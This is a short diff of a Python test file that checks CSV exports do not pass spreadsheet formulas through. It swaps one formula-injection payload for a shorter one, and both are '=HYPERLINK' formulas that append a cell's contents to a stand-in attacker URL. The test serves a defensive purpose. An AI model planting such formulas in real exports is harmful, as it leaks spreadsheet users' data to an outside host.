@@ -187,7 +187,8 @@ def test_gunicorn_logs_a_malformed_request_line_without_its_token(tmp_path, redi
 
 # CSV exports -----------------------------------------------------------------------------------------------
 
-HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Klik untuk data")'
+HYPERLINK = '=HYPERLINK("http://ev.il/"&A2)'
+"""A formula a spreadsheet would run, short enough for a name (30 characters, as PostgreSQL enforces)."""
 
 
 def test_a_csv_export_does_not_hand_a_spreadsheet_a_formula(runner):
